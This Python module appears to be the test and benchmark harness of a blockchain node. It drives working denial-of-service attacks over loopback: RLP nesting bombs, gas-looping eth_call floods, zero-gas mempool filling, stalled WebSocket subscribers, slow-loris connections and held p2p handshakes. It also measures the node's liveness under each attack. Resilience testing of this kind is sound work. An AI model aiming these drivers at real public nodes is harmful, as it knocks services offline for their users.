"""Attack drivers against a real node over loopback, and a liveness probe (shared by tests and bench).

Each attack is a function ``attack(url, stop, **kw)`` that loops until ``stop`` is set; :func:`measure`
runs some of them in threads for a fixed time while it counts blocks and times an honest request.
Every run is bounded by its duration; the threads are daemons and are joined with a timeout.
"""

from __future__ import annotations

import base64
import json
import os
import socket
import statistics
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import httpx

#: ``JUMPDEST PUSH1 0 JUMP``: initcode that loops until it runs out of gas.
LOOP_INITCODE = "0x5b600056"

Attack = Callable[[str, threading.Event], None]


def _post(client: httpx.Client, url: str, method: str, *params: Any) -> Any:
    try:
        return client.post(url, json={"jsonrpc": "2.0", "id": 1, "method": method, "params": list(params)}).json()
    except (httpx.HTTPError, ValueError):
        return None


def rlp_bomb(url: str, stop: threading.Event) -> None:
    """``eth_sendRawTransaction`` with 100,000 nested one-byte lists (finding 1)."""
    bomb = "0x" + "c1" * 100_000
    with httpx.Client(timeout=30) as client:
        while not stop.is_set():
            _post(client, url, "eth_sendRawTransaction", bomb)


def call_flood(url: str, stop: threading.Event) -> None:
    """``eth_call`` of initcode that loops until 50M gas is spent (finding 2)."""
    with httpx.Client(timeout=60) as client:
        while not stop.is_set():
            _post(client, url, "eth_call", {"data": LOOP_INITCODE, "gas": hex(50_000_000)}, "latest")


def pool_fill(url: str, stop: threading.Event, chain_id: int = 1999, seed: str = "flood") -> None:
    """Fresh keys (gas is free: no funds needed) each sending nonce-gap transactions (finding 3)."""
    from eth_account import Account
    from eth_hash.auto import keccak

    i = 0
    with httpx.Client(timeout=30) as client:
        while not stop.is_set():
            acct = Account.from_key(keccak(f"{seed}{i}".encode()))
            i += 1
            for nonce in range(1, 65):
                if stop.is_set():
                    return
                raw = acct.sign_transaction({"chainId": chain_id, "nonce": nonce, "gas": 21_000, "gasPrice": 0,
                                             "to": "0x" + "11" * 20, "value": 0}).raw_transaction
                _post(client, url, "eth_sendRawTransaction", "0x" + bytes(raw).hex())


#: eth_call of code (a state override) ``PUSH3 0x100000 PUSH1 0 RETURN``: a 1 MiB (2 MiB hex) answer.
_BIG = "0x" + "77" * 20
BIG_ANSWER_REQUEST = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "eth_call",
                                 "params": [{"to": _BIG, "gas": hex(10_000_000)}, "latest",
                                            {_BIG: {"code": "0x621000006000f3"}}]})


def ws_frame(text: str) -> bytes:
    """A masked client WebSocket text frame (RFC 6455)."""
    payload = text.encode()
    mask = os.urandom(4)
    n = len(payload)
    if n < 126:
        head = bytes([0x81, 0x80 | n])
    elif n < 65536:
        head = bytes([0x81, 0x80 | 126]) + n.to_bytes(2, "big")
    else:
        head = bytes([0x81, 0x80 | 127]) + n.to_bytes(8, "big")
    return head + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(payload))


def ws_stall(url: str, stop: threading.Event, requests: int = 60) -> None:
    """Raw WebSocket client: subscribe to new heads, ask for 1 MiB answers, never read (finding 5)."""
    host, port = url.removeprefix("http://").removeprefix("ws://").split(":")
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.settimeout(10)
    try:
        sock.connect((host, int(port)))
        key = base64.b64encode(os.urandom(16)).decode()
        sock.sendall(f"GET / HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                     f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n".encode())
        answer = b""
        while b"\r\n\r\n" not in answer:
            chunk = sock.recv(1)
            if not chunk:
                return
            answer += chunk
        sock.sendall(ws_frame(json.dumps({"jsonrpc": "2.0", "id": 0, "method": "eth_subscribe",
                                          "params": ["newHeads"]})))
        sock.settimeout(0.5)
        for _ in range(requests):
            if stop.is_set():
                break
            try:
                sock.sendall(ws_frame(BIG_ANSWER_REQUEST))
            except OSError:
                break
        stop.wait()
    except OSError:
        pass
    finally:
        sock.close()


def _hold_connections(stop: threading.Event, count: int, pause: float,
                      open_one: Callable[[socket.socket], None]) -> None:
    """Keep ``count`` connections open until ``stop``; ``open_one`` connects a fresh socket (an ``OSError``
    means the node refuses more for now).  What the node closes is noticed and reopened every ``pause`` s."""
    socks: list[socket.socket] = []
    try:
        while not stop.is_set():
            while len(socks) < count and not stop.is_set():
                s = socket.socket()
                s.settimeout(2)
                try:
                    open_one(s)
                    socks.append(s)
                except OSError:
                    s.close()
                    break
            alive = []
            for s in socks:
                s.setblocking(False)
                try:
                    if s.recv(1) == b"":
                        s.close()
                        continue
                except BlockingIOError:
                    pass
                except OSError:
                    s.close()
                    continue
                alive.append(s)
            socks = alive
            stop.wait(pause)
    finally:
        for s in socks:
            s.close()


def slow_loris(url: str, stop: threading.Event, count: int = 300) -> None:
    """``count`` HTTP connections that send a request line and one header, then nothing (finding 5)."""
    host, port = url.removeprefix("http://").split(":")

    def open_one(s: socket.socket) -> None:
        s.connect((host, int(port)))
        s.sendall(b"POST / HTTP/1.1\r\nHost: x\r\n")

    _hold_connections(stop, count, 0.5, open_one)


def handshake_hold(host: str, port: int, stop: threading.Event, count: int = 64, sources: int = 16) -> None:
    """Hold ``count`` silent TCP connections to the p2p port from 127.0.0.2 … (finding 4); the node closes
    them after its handshake deadline, and they are reopened."""
    n = 0

    def open_one(s: socket.socket) -> None:
        nonlocal n
        s.bind((f"127.0.0.{2 + n % sources}", 0))
        n += 1
        s.connect((host, port))

    _hold_connections(stop, count, 0.2, open_one)


@dataclass
class Liveness:
    """What one measured window looked like."""

    seconds: float
    blocks: int
    slots: int
    honest_latencies: list[float] = field(default_factory=list)
    honest_failures: int = 0
    rss_mb_max: float = float("nan")

    @property
    def block_share(self) -> float:
        return self.blocks / self.slots if self.slots else 1.0

    @property
    def p50_ms(self) -> float:
        return statistics.median(self.honest_latencies) * 1000 if self.honest_latencies else float("nan")

    @property
    def max_ms(self) -> float:
        return max(self.honest_latencies) * 1000 if self.honest_latencies else float("nan")


def rss_mb(pid: int) -> float:
    """Resident memory of process ``pid`` in MiB (Linux /proc)."""
    with open(f"/proc/{pid}/status") as fh:
        for line in fh:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return float("nan")


def block_number(url: str, timeout: float = 10) -> int:
    r = httpx.post(url, json={"jsonrpc": "2.0", "id": 1, "method": "eth_blockNumber", "params": []},
                   timeout=timeout)
    return int(r.json()["result"], 16)


def measure(url: str | list[str], attacks: list[Callable[[threading.Event], None]], seconds: float,
            block_period: float = 1.0, warmup: float = 1.0, pid: int | list[int] | None = None) -> Liveness:
    """Run ``attacks`` (each ``f(stop)``) in threads for ``warmup + seconds``; count blocks produced in
    the measured window (at the first URL) and time honest ``eth_getBalance`` requests, round-robin over
    every URL (the attacked nodes of a network). ``pid``: node process(es) whose RSS is sampled."""
    urls = [url] if isinstance(url, str) else list(url)
    pids = [] if pid is None else [pid] if isinstance(pid, int) else list(pid)
    stop = threading.Event()
    threads = [threading.Thread(target=a, args=(stop,), daemon=True) for a in attacks]
    for t in threads:
        t.start()
    try:
        time.sleep(warmup)
        start_block = block_number(urls[0], timeout=30)
        t0 = time.monotonic()
        out = Liveness(seconds, 0, 0)
        k = 0
        with httpx.Client(timeout=10) as client:
            while time.monotonic() - t0 < seconds:
                q0 = time.monotonic()
                resp = _post(client, urls[k % len(urls)], "eth_getBalance", "0x" + "00" * 20, "latest")
                k += 1
                if resp is not None and "result" in resp:
                    out.honest_latencies.append(time.monotonic() - q0)
                else:
                    out.honest_failures += 1
                for p in pids:
                    rss = rss_mb(p)
                    out.rss_mb_max = rss if out.rss_mb_max != out.rss_mb_max else max(out.rss_mb_max, rss)
                time.sleep(0.2)
        elapsed = time.monotonic() - t0
        out.blocks = block_number(urls[0], timeout=30) - start_block
        out.slots = int(elapsed / block_period)
        out.seconds = elapsed
        return out
    finally:
        stop.set()
        for t in threads:
            t.join(15)


def scenario_attacks(name: str, targets: list[tuple[str, int]], chain_id: int = 1999,
                     host: str = "127.0.0.1") -> list[Callable[[threading.Event], None]]:
    """The attackers of scenario ``name`` against every ``(rpc_url, p2p_port)`` in ``targets`` (issue 17's
    loads, per attacked node: 2 RLP-bomb clients, 6 looping eth_calls, 2 pool fillers, 2 stalled WebSocket
    subscribers, 300 (``count``) slow-loris connections, 64 held p2p handshakes)."""
    out: list[Callable[[threading.Event], None]] = []
    for n, (url, p2p_port) in enumerate(targets):
        if name == "rlp-bomb":
            out += [lambda s, u=url: rlp_bomb(u, s) for _ in range(2)]
        elif name == "eth-call":
            out += [lambda s, u=url: call_flood(u, s) for _ in range(6)]
        elif name == "pool-fill":
            out += [lambda s, u=url, seed=f"fill{n}-{i}-": pool_fill(u, s, chain_id=chain_id, seed=seed)
                    for i in range(2)]
        elif name == "ws-stall":
            out += [lambda s, u=url: ws_stall(u, s) for _ in range(2)]
        elif name == "slow-loris":
            out += [lambda s, u=url: slow_loris(u, s, count=200)]
        elif name == "p2p-handshake":
            out += [lambda s, p=p2p_port: handshake_hold(host, p, s)]
        elif name != "none":
            raise ValueError(f"unknown attack scenario {name!r}")
    return out


#: Every scenario :func:`scenario_attacks` knows, baseline first.
SCENARIOS = ("none", "rlp-bomb", "eth-call", "pool-fill", "ws-stall", "slow-loris", "p2p-handshake")
